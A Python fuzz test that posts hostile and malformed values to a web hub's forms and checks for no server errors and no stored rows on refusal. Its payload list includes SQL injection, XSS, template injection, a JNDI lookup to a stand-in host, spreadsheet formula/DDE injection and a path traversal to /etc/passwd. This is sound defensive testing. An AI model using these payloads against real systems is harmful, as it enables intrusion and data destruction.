"""The form fuzz of tests/fuzz/ (issue 24): hypothesis fills each field of a page's POST form with
what a careless or hostile user might send (impossible and far-off dates, huge strings, odd
Unicode, NUL and other control characters, SQL, template and formula injection, numbers out of
range, the page's own choices) and posts it with the page's CSRF token, the way a browser would,
so the form's service function gets whatever the form lets through. Whatever is sent: never a
500, and when the hub refuses (anything but the redirect that follows a save, or a redirect with
an error message), nothing is stored (the row count of every table but the audit log's and the
sign-in bookkeeping is unchanged)."""

from __future__ import annotations

import os
from html.parser import HTMLParser
from urllib.parse import urlsplit

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from hub import db
from hub.db import Base
from tests.factories import csrf_token

#: Rows written whatever the answer: the audit log (a refusal is audited) and signing in.
UNCOUNTED = ("audit_", "user_session", "sign_in_attempt")

PAYLOADS = [
    "'; DROP TABLE child; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "{{ 7*7 }}",
    "{% raw %}",
    "${jndi:ldap://example.test/a}",
    '=HYPERLINK("http://example.test","x")',
    "+cmd|' /C calc'!A0",
    "../../../etc/passwd",
    "%00",
    "\\x00",
    "null",
    "None",
    "-1",
    "0",
    "99999999999999999999",
    "1e309",
    "NaN",
]
ODD = [
    "\x00",
    "a\x00b",
    "\x1b[31m",
    "\x7f",
    "\u202eevil",
    "\u200b",
    "e\u0301",
    "\ufeff",
    "\U0001f600",
    "\U0001d54f" * 50,
    "ǅ",
    "\u2028",
    "Ω" * 3000,
    "x" * 100_000,
    " " * 5000,
    "\t\r\n",
]
#: The title of the request layer's refusal of control characters (hub.request_text).
REQUEST_REFUSED = "Your request could not be read"
DATE_PARTS = ["0", "-1", "31", "2", "29", "13", "1900", "9999", "10000", "2026", "1.5", "", "x"]
#: Examples per form: enough to meet each kind of value on every field, few enough for the suite.
#: HUB_FORM_FUZZ_EXAMPLES runs every form's fuzz longer, by hand, to look for more.
EXAMPLES = 12
DEEPER = int(os.environ.get("HUB_FORM_FUZZ_EXAMPLES", "0"))


def rows() -> dict[str, int]:
    return {
        name: db.session().scalar(select(func.count()).select_from(table))
        for name, table in Base.metadata.tables.items()
        if not name.startswith(UNCOUNTED)
    }


class FormFields(HTMLParser):
    """The fields of a page's POST forms that post to `action` (a form without an action posts to
    the page itself): name -> how many inputs carry it, and the offered values. A page with
    several forms (a notification's acknowledgement, its "seen at school" and its information)
    gives each target only its own form's fields."""

    def __init__(self, page: str = "", action: str | None = None) -> None:
        super().__init__()
        self.page = urlsplit(page).path
        self.action = urlsplit(action or page).path
        self.fields: dict[str, int] = {}
        self.options: dict[str, list[str]] = {}
        self._select: str | None = None
        self._in_post_form = False

    def _targeted(self, form_action: str | None) -> bool:
        return urlsplit(form_action or self.page).path == self.action

    def handle_starttag(self, tag: str, attrs) -> None:
        attr = dict(attrs)
        if tag == "form":
            self._in_post_form = (attr.get("method") or "").lower() == "post" and self._targeted(attr.get("action"))
        if not self._in_post_form:
            return
        name = attr.get("name")
        if (
            tag in ("input", "textarea", "select")
            and name
            and name != "csrf_token"
            and attr.get("type") not in ("submit", "file")
        ):
            is_choice = tag == "input" and attr.get("type") in ("radio", "checkbox")
            if not is_choice or name not in self.fields:
                self.fields[name] = self.fields.get(name, 0) + 1
            if is_choice and attr.get("value") is not None:
                self.options.setdefault(name, []).append(attr["value"])
        if tag == "select":
            self._select = name
        if tag == "option" and self._select and attr.get("value") is not None:
            self.options.setdefault(self._select, []).append(attr["value"])

    def handle_endtag(self, tag: str) -> None:
        if tag == "select":
            self._select = None
        if tag == "form":
            self._in_post_form = False


def _value(options: list[str]) -> st.SearchStrategy[str]:
    text = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
    nasty = st.one_of(
        st.sampled_from(PAYLOADS),
        st.sampled_from(ODD),
        text,
        st.integers(-(10**15), 10**15).map(str),
        st.sampled_from(DATE_PARTS),
    )
    return st.one_of(st.sampled_from(options), nasty) if options else nasty


def _form(fields: FormFields) -> st.SearchStrategy[dict[str, list[str]]]:
    return st.fixed_dictionaries(
        {
            name: st.lists(_value(fields.options.get(name, [])), min_size=count, max_size=count)
            for name, count in fields.fields.items()
        }
    )


def _refused(client, response) -> bool:
    """Whether the hub refused what was sent: the page again (with its errors, or an error page),
    or a redirect that carries an error message (the one-button forms flash their refusal). The
    messages are taken out of the session, as the next page would, so that they do not pile up."""
    with client.session_transaction() as session:
        flashed = session.pop("_flashes", [])
    return response.status_code not in (302, 303) or any(category == "error" for category, _ in flashed)


def fuzz(client, page: str, post: str | None = None, examples: int = EXAMPLES) -> int:
    """Fuzz the form of `page` that posts to `post` (else the page's own): the number of fields."""
    html = client.get(page)
    assert html.status_code == 200, page
    body = html.get_data(as_text=True)
    fields = FormFields(page, post)
    fields.feed(body)
    assert fields.fields, f"no form fields on {page} for {post or page}"
    token = csrf_token(body)

    past_the_request_layer: list[int] = []

    # Derandomised, as the API's fuzz: CI sees the same cases every time.
    @settings(
        max_examples=DEEPER or examples,
        deadline=None,
        database=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(data=_form(fields))
    def send(data):
        before = rows()
        response = client.post(post or page, data={"csrf_token": token, **data})
        if REQUEST_REFUSED not in response.get_data(as_text=True):
            past_the_request_layer.append(response.status_code)
        assert response.status_code < 500, (post or page, response.status_code)
        if _refused(client, response):
            assert rows() == before, (post or page, response.status_code)

    send()
    # Some cases got past the request layer's refusal of control characters to the form's checks
    # and its service (a page answered again with its errors, or the redirect after a save).
    assert past_the_request_layer, f"every case sent to {post or page} was refused before its form"
    return len(fields.fields)
